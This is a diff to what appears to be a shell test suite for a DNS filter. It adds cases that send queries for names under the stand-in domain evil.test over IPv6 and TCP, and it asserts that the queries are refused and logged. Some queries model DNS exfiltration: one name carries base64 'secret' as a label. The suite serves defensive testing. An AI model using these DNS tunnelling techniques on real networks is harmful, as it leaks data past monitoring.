@@ -92,6 +92,7 @@ r x8_tcp "\$(st +tcp @$U x8-$R.evil.test)"
 r x9_udp6 "\$(py udp6 ::1 x9u-$R.evil.test)"
 r x9_tcp6 "\$(py tcp6 ::1 x9t-$R.evil.test)"
 r x9_dig6 "\$(st @::1 x9d-$R.evil.test)"
+r x9_sendto6 "\$(py sendto ::1 x9s-$R.evil.test)"
 r x10_mapped "\$(py sendto ::ffff:$U x10-$R.evil.test)"
 r x10_tcpmapped "\$(py tcp6 ::ffff:$U x10t-$R.evil.test)"
 r x11_sendmmsg "\$(py sendmmsg $U x11-$R-%d.evil.test 16)"
@@ -180,6 +181,8 @@ for k in x1_a x1_txt x1_any x1_mx x2_long x3_many x4_suffix x5_prefix x6_case x7
 done
 assert_match "refused: ::1 over connected UDP" "$(res x9_udp6)" "peer ::1:53 rcode REFUSED"
 assert_match "refused: ::1 over TCP" "$(res x9_tcp6)" "peer ::1:53 rcode REFUSED"
+assert_match "::1 unconnected sendto: refused or fails (cannot reach the IPv4 filter)" \
+	"$(res x9_sendto6)" "rcode (REFUSED|error:)"
 assert_match "refused: v4-mapped sendto, reply from the address asked" "$(res x10_mapped)" \
 	"rcode REFUSED source ::ffff:$U:53"
 assert_match "refused: v4-mapped over TCP" "$(res x10_tcpmapped)" "rcode REFUSED"
@@ -224,6 +227,8 @@ assert_match "a refusal is an event with name, type and command" \
 	'"reason":"dns_refused","hook":"dns".*"destination":"127\.53\.[0-9.]+:53","name":"c2VjcmV0-[0-9]+\.evil\.test","qtype":"TXT".*"comm":"isc-net-0000|"comm":"dig'
 assert_match "a refusal over ::1 names the address asked" \
 	"$(grep "x9u-$R" "$ev" | head -1)" '"destination":"\[::1\]:53".*"comm":"python3"'
+assert_match "a refusal over TCP is an event" \
+	"$(grep "x8-$R" "$ev" | head -1)" '"proto":"tcp".*"name":"x8-[0-9]+\.evil\.test","qtype":"A"'
 assert_match "dnsmasq.log kept in --log-dir" "$(ls "$TDIR/logs")" "dnsmasq.log"
 
 # --- nothing left ---------------------------------------------------------------
